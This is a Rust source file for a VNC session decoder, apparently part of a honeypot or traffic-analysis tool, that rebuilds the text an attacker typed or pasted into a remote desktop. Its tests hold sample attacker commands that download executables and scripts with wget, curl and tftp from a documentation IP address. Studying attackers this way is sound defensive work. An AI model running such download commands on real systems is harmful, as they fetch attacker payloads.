//! The `vnc` decoder: an RFB (VNC) session in the payload is replayed from the
//! client's side: the text it typed (KeyEvent down-presses) and pasted
//! (ClientCutText) becomes a decoded copy, so the downloaders find the URLs and
//! commands an attacker typed into a remote desktop (the original's vncDownload).
//!
//! The payload holds only the client's bytes: its version (`RFB 003.008\n`), its
//! security choice (3.7 and later: one byte; 3.3: none, the server picks), a 16-byte
//! VNC authentication response if that was used, ClientInit (one byte), then
//! messages. Since the server's choices are not in it, each plausible handshake
//! length is tried and the one whose messages parse furthest wins. Keysyms map to
//! text: printable ASCII and Latin-1, Unicode keysyms, Return and KP_Enter → `\n`,
//! Tab → `\t`, the keypad's digits and operators; BackSpace deletes the last
//! character; modifiers and other keys are ignored. Pasted text (Latin-1) is
//! inserted where it was pasted.

use super::decoding::{self, find};
use super::registry::{self, Options, Registration};
use super::{Analyzer, Decoded, Input, Output, Stage};
use serde::{Deserialize, Serialize};

pub const NAME: &str = "vnc";

/// `[analyzer.vnc]`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct VncOptions {
    pub enabled: bool,
    /// Most bytes of text kept from one session.
    pub max_text: usize,
}

impl Default for VncOptions {
    fn default() -> Self {
        VncOptions {
            enabled: true,
            max_text: 64 << 10,
        }
    }
}

impl Options for VncOptions {
    fn enabled(&self) -> bool {
        self.enabled
    }
}

fn check(o: &VncOptions) -> Result<(), (String, String)> {
    decoding::in_range("max_text", o.max_text as u64, 1, 16 << 20)
}

pub fn registration() -> Registration {
    Registration {
        name: NAME,
        stage: Stage::Decode,
        about: "replays RFB (VNC) sessions: typed and pasted text",
        options: |t| decoding::checked(t, check),
        build: |t, c| {
            let limit = c.limits.read_limit;
            registry::build_with(t, |o: VncOptions| Ok(Vnc::new(o, limit)))
        },
    }
}

/// The decoder.
pub struct Vnc {
    /// Most bytes of text: `max_text`, and never more than `limits.read_limit`.
    max: usize,
}

impl Vnc {
    pub fn new(o: VncOptions, read_limit: u64) -> Vnc {
        let max = decoding::output_cap(o.max_text, 1, read_limit);
        Vnc { max }
    }
}

/// Where the version string may start: the client speaks first after the
/// server's version, so it opens the payload (a little slack for junk).
const VERSION_WITHIN: usize = 64;
const VERSION_LEN: usize = 12;

impl Analyzer for Vnc {
    fn name(&self) -> &'static str {
        NAME
    }
    fn stage(&self) -> Stage {
        Stage::Decode
    }
    fn run(&self, input: &Input, out: &mut Output) -> anyhow::Result<()> {
        let data = input.data;
        let Some(at) = version_at(data) else {
            return Ok(());
        };
        let version = String::from_utf8_lossy(&data[at..at + VERSION_LEN - 1]).into_owned();
        let rest = &data[at + VERSION_LEN..];
        let s = Session::best(rest);
        let start = at + VERSION_LEN + s.skip;
        let (text, cut) = s.text(&rest[s.skip..], self.max);
        let keys = s
            .events
            .iter()
            .filter(|e| matches!(e, Event::Key(..)))
            .count();
        let pastes = s.events.len() - keys;
        let f = out.finding(
            NAME,
            "rfb",
            format!(
                "{version} session: {} messages, {keys} key presses, {pastes} pastes, {} bytes of text{}",
                s.messages,
                text.len(),
                if cut { " (cut at max_text)" } else { "" }
            ),
        );
        f.at(at as u64, (start + s.consumed - at) as u64)
            .meta("version", version)
            .meta("security", s.security)
            .meta("messages", s.messages as u64)
            .meta("key_presses", keys as u64)
            .meta("pastes", pastes as u64)
            .meta("truncated", cut);
        if let Some(r) = s.auth_response(rest) {
            f.meta("auth_response", hex::encode(r));
        }
        if !text.is_empty() {
            out.decoded.push(Decoded {
                offset: start as u64,
                length: s.consumed as u64,
                data: text.into_bytes(),
            });
        }
        Ok(())
    }
}

/// Where `RFB xxx.yyy\n` starts.
fn version_at(data: &[u8]) -> Option<usize> {
    let head = &data[..data.len().min(VERSION_WITHIN + VERSION_LEN)];
    let at = find(head, b"RFB ", 0)?;
    let v = data.get(at..at + VERSION_LEN)?;
    let digits = |r: std::ops::Range<usize>| v[r].iter().all(u8::is_ascii_digit);
    (digits(4..7) && v[7] == b'.' && digits(8..11) && v[11] == b'\n').then_some(at)
}

/// One client message that carries text.
#[derive(Debug, Clone, Copy, PartialEq)]
enum Event {
    /// A key pressed down (keysym).
    Key(u32),
    /// Pasted text: its range in the message bytes.
    Cut(usize, usize),
}

/// The client's messages as parsed after one guess of the handshake's length.
#[derive(Debug, Default)]
struct Session {
    /// Handshake bytes before the first message.
    skip: usize,
    security: &'static str,
    /// Message bytes that parsed.
    consumed: usize,
    messages: usize,
    events: Vec<Event>,
}

/// Handshake lengths after the version: security choice (3.7+), a VNC
/// authentication response, ClientInit.
const HANDSHAKES: [(usize, &str); 4] = [
    (2, "none"),      // 3.7+: security None, ClientInit
    (18, "vnc_auth"), // 3.7+: VNC authentication, response, ClientInit
    (1, "none"),      // 3.3: ClientInit only
    (17, "vnc_auth"), // 3.3: response, ClientInit
];

impl Session {
    /// The guess whose messages parse furthest.
    fn best(rest: &[u8]) -> Session {
        let mut best = Session {
            security: "unknown",
            ..Session::default()
        };
        for (skip, security) in HANDSHAKES {
            if rest.len() < skip || !handshake_fits(rest, skip) {
                continue;
            }
            let s = Session::parse(&rest[skip..], skip, security);
            if s.consumed > best.consumed {
                best = s;
            }
        }
        best
    }

    /// The 16-byte VNC authentication response of a session that used it.
    fn auth_response<'a>(&self, rest: &'a [u8]) -> Option<&'a [u8]> {
        (self.security == "vnc_auth").then(|| &rest[self.skip - 17..self.skip - 1])
    }

    fn parse(m: &[u8], skip: usize, security: &'static str) -> Session {
        let mut s = Session {
            skip,
            security,
            ..Session::default()
        };
        let mut p = 0;
        while let Some((len, event)) = message(&m[p..]) {
            if let Some(e) = event {
                s.events.push(match e {
                    Event::Cut(a, b) => Event::Cut(p + a, p + b),
                    key => key,
                });
            }
            p += len;
            s.messages += 1;
        }
        s.consumed = p;
        s
    }

    /// The text typed and pasted, at most `max` bytes; true when cut there.
    fn text(&self, m: &[u8], max: usize) -> (String, bool) {
        let mut t = String::new();
        for e in &self.events {
            match *e {
                Event::Key(0xff08) => {
                    t.pop();
                }
                Event::Key(sym) => t.extend(keysym_char(sym)),
                Event::Cut(a, b) => t.extend(m[a..b].iter().map(|&c| char::from(c))),
            }
            if t.len() > max {
                let mut end = max;
                while !t.is_char_boundary(end) {
                    end -= 1;
                }
                t.truncate(end);
                return (t, true);
            }
        }
        (t, false)
    }
}

/// Whether the handshake bytes fit the guess: the security choice (3.7+) is the
/// type the length implies, ClientInit's shared flag is 0 or 1.
fn handshake_fits(rest: &[u8], skip: usize) -> bool {
    let shared_ok = rest[skip - 1] <= 1;
    match skip {
        2 => rest[0] == 1 && shared_ok,
        18 => rest[0] == 2 && shared_ok,
        _ => shared_ok,
    }
}

/// The client message at the start of `m`: its length and the text event it
/// carries, None when it is not a complete valid message.
fn message(m: &[u8]) -> Option<(usize, Option<Event>)> {
    let u16_at = |i: usize| Some(u16::from_be_bytes(m.get(i..i + 2)?.try_into().ok()?));
    let u32_at = |i: usize| Some(u32::from_be_bytes(m.get(i..i + 4)?.try_into().ok()?));
    let need = |n: usize| (m.len() >= n).then_some(n);
    match *m.first()? {
        // SetPixelFormat
        0 => Some((need(20)?, None)),
        // SetEncodings
        2 => Some((need(4 + 4 * usize::from(u16_at(2)?))?, None)),
        // FramebufferUpdateRequest
        3 if *m.get(1)? <= 1 => Some((need(10)?, None)),
        // KeyEvent
        4 if *m.get(1)? <= 1 => {
            let len = need(8)?;
            let down = m[1] == 1;
            Some((len, down.then(|| Event::Key(u32_at(4).unwrap()))))
        }
        // PointerEvent
        5 => Some((need(6)?, None)),
        // ClientCutText; cut short by the capture: what is there.
        6 => {
            let n = usize::try_from(u32_at(4)?).ok()?;
            let end = 8usize.saturating_add(n).min(m.len());
            Some((end, Some(Event::Cut(8, end))))
        }
        _ => None,
    }
}

/// The character a keysym types, if any.
fn keysym_char(sym: u32) -> Option<char> {
    match sym {
        0x20..=0x7e | 0xa0..=0xff => char::from_u32(sym),
        0xff0d | 0xff8d => Some('\n'),
        0xff09 | 0xff89 => Some('\t'),
        0xff80 => Some(' '),
        0xffaa => Some('*'),
        0xffab => Some('+'),
        0xffac => Some(','),
        0xffad => Some('-'),
        0xffae => Some('.'),
        0xffaf => Some('/'),
        0xffb0..=0xffb9 => char::from_u32(u32::from(b'0') + (sym - 0xffb0)),
        0xffbd => Some('='),
        0x0100_00a0..=0x0110_ffff => char::from_u32(sym - 0x0100_0000),
        _ => None,
    }
}

/// Builds client sessions byte by byte (tests).
#[cfg(test)]
pub mod build {
    pub fn key(out: &mut Vec<u8>, sym: u32) {
        for down in [1u8, 0] {
            out.extend([4, down, 0, 0]);
            out.extend(sym.to_be_bytes());
        }
    }

    pub fn typed(out: &mut Vec<u8>, text: &str) {
        for c in text.chars() {
            match c {
                '\n' => key(out, 0xff0d),
                c => {
                    if c.is_ascii_uppercase() {
                        key_down_up_shift(out);
                    }
                    key(out, c as u32)
                }
            }
        }
    }

    /// A Shift press and release, as clients send around capitals.
    fn key_down_up_shift(out: &mut Vec<u8>) {
        key(out, 0xffe1);
    }

    pub fn paste(out: &mut Vec<u8>, text: &[u8]) {
        out.extend([6, 0, 0, 0]);
        out.extend((text.len() as u32).to_be_bytes());
        out.extend(text);
    }

    /// The start of a 3.8 session: version, security None, ClientInit, the
    /// messages a viewer sends before any input.
    pub fn session_start(version: &[u8; 12], vnc_auth: bool) -> Vec<u8> {
        let mut s = version.to_vec();
        if vnc_auth {
            s.push(2);
            s.extend([0x5a; 16]);
        } else {
            s.push(1);
        }
        s.push(1); // ClientInit: shared
        s.extend([
            0, 0, 0, 0, 32, 24, 0, 1, 0, 255, 0, 255, 0, 255, 16, 8, 0, 0, 0, 0,
        ]);
        s.extend([2, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0, 1]);
        s.extend([3, 0, 0, 0, 0, 0, 4, 0, 3, 0]);
        s.extend([5, 0, 0, 10, 0, 20]);
        s
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(data: &[u8]) -> Output {
        decoding::run_on(&Vnc::new(VncOptions::default(), 1 << 20), data)
    }

    #[test]
    fn typed_and_pasted_text() {
        let mut s = build::session_start(b"RFB 003.008\n", false);
        build::typed(&mut s, "wgt");
        build::key(&mut s, 0xff08); // BackSpace
        build::typed(&mut s, "et http://198.51.100.7/X.exe\n");
        build::paste(&mut s, b"curl -O http://198.51.100.7/y.sh");
        build::key(&mut s, 0xff8d); // KP_Enter
        let out = run(&s);
        assert_eq!(out.decoded.len(), 1);
        assert_eq!(
            out.decoded[0].data,
            b"wget http://198.51.100.7/X.exe\ncurl -O http://198.51.100.7/y.sh\n"
        );
        assert_eq!(out.decoded[0].offset, 14);
        assert_eq!(out.decoded[0].length, (s.len() - 14) as u64);
        let f = &out.findings[0];
        assert_eq!(f.kind, "rfb");
        assert_eq!(f.meta["version"], "RFB 003.008");
        assert_eq!(f.meta["security"], "none");
        assert_eq!(f.meta["pastes"], 1);
        assert_eq!(f.length, Some(s.len() as u64));
    }

    #[test]
    fn vnc_auth_and_3_3_handshakes() {
        let mut s = build::session_start(b"RFB 003.008\n", true);
        build::typed(&mut s, "cmd\n");
        let out = run(&s);
        assert_eq!(out.decoded[0].data, b"cmd\n");
        assert_eq!(out.findings[0].meta["security"], "vnc_auth");
        assert_eq!(out.findings[0].meta["auth_response"], "5a".repeat(16));
        // 3.3: no security choice from the client, just ClientInit.
        let mut s = b"RFB 003.003\n".to_vec();
        s.push(0);
        build::typed(&mut s, "ls\n");
        assert_eq!(run(&s).decoded[0].data, b"ls\n");
    }

    #[test]
    fn cut_sessions_limits_and_non_rfb() {
        let mut s = build::session_start(b"RFB 003.008\n", false);
        build::paste(&mut s, b"tftp -i 198.51.100.7 GET a.exe");
        s.truncate(s.len() - 10);
        assert_eq!(run(&s).decoded[0].data, b"tftp -i 198.51.100.7");
        let mut s = build::session_start(b"RFB 003.008\n", false);
        build::typed(&mut s, &"x".repeat(100));
        let out = decoding::run_on(&Vnc::new(VncOptions::default(), 10), &s);
        assert_eq!(out.decoded[0].data, b"xxxxxxxxxx");
        assert_eq!(out.findings[0].meta["truncated"], true);
        assert!(run(b"GET / HTTP/1.0\r\n\r\n").findings.is_empty());
        assert!(run(b"RFB 003.008").findings.is_empty());
        // A version and nothing more: a finding, no copy.
        let out = run(b"RFB 003.008\n");
        assert_eq!(out.findings.len(), 1);
        assert!(out.decoded.is_empty());
    }

    #[test]
    fn keysyms() {
        assert_eq!(keysym_char(0x41), Some('A'));
        assert_eq!(keysym_char(0xffb7), Some('7'));
        assert_eq!(keysym_char(0x0100_20ac), Some('€'));
        assert_eq!(keysym_char(0xffe1), None, "Shift");
    }
}
